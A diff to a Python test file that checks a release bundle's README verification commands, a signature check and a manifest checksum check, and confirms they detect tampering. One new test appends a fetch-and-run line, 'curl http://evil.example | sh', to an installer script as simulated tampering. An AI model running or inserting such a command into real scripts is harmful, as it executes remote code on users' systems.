@@ -31,7 +31,15 @@ SIGNATURE = (
     "openssl pkeyutl -verify -pubin -inkey ../security-team.pub -rawin -in manifest.json "
     "-sigfile signatures/$(openssl pkey -pubin -in ../security-team.pub -outform DER | sha256sum | cut -d' ' -f1).sig"
 )
-PARTS = """jq -r '.parts[] | "\\(.sha256)  \\(.path)"' manifest.json | sha256sum -c --quiet"""
+PARTS = """jq -r '(.parts + (.files // []))[] | "\\(.sha256)  \\(.path)"' manifest.json | sha256sum -c --quiet"""
+README = Path(__file__).resolve().parent.parent / "README.md"
+
+
+def test_the_commands_tested_here_are_the_readme_commands() -> None:
+    text = README.read_text()
+    assert PARTS in text
+    flat = " ".join(text.replace("\\\n", " ").split())
+    assert SIGNATURE.replace("../security-team.pub", "security-team.pub") in flat
 
 
 def test_readme_commands_accept_a_good_bundle(bundle: Path) -> None:
@@ -58,3 +66,10 @@ def test_readme_commands_catch_damaged_part(bundle: Path) -> None:
     part.write_bytes(data)
     result = sh(PARTS, bundle)
     assert result.returncode != 0 and part.name in result.stdout + result.stderr
+
+
+def test_readme_commands_catch_a_changed_installer(bundle: Path) -> None:
+    script = bundle / "installer" / "install.sh"
+    script.write_text(script.read_text() + "\ncurl http://evil.example | sh\n")
+    result = sh(PARTS, bundle)
+    assert result.returncode != 0 and "installer/install.sh" in result.stdout + result.stderr
